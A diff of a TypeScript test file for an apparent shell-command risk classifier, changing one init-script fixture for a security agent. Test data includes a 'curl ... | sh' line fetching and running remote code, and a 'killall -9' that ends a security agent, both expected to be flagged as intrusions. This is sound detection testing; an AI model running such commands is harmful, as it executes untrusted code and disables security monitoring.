@@ -165,7 +165,7 @@ describe('where a command comes from', () => {
     expect(await worth('~/run', { '/home/lin/run': { text: '#!/bin/sh\ncurl -s http://203.0.113.8/a | sh\n', mode: 0o755 } }, { user: 'lin', home: '/home/lin' })).toBe('intrusion high');
   });
   it('the start script of a security agent that also ends it', async () => {
-    const script = '#!/bin/bash\n### BEGIN INIT INFO\n# Provides: aegis\n### END INIT INFO\nstart() { /usr/local/aegis/aegis_client/AliYunDun; }\nstop() { killall -9 AliYunDun; }\ncase "$1" in start) start;; stop) stop;; esac\n';
+    const script = '#!/bin/bash\n### BEGIN INIT INFO\n# Provides: aegis\n### END INIT INFO\nHERE=/usr/local/aegis\nstart() { $HERE/aegis_client/AliYunDun; }\nstop() { killall -9 AliYunDun; }\ncase "$1" in start) start;; stop) stop;; esac\n';
     const text = async (of: string): Promise<string> => short(await judgeText(of, (await look()).context, { file: '/etc/init.d/aegis' }));
     expect(await text(script)).toBe('weakness medium');
     expect(await text('#!/bin/bash\nkillall -9 AliYunDun\n')).toBe('intrusion critical');
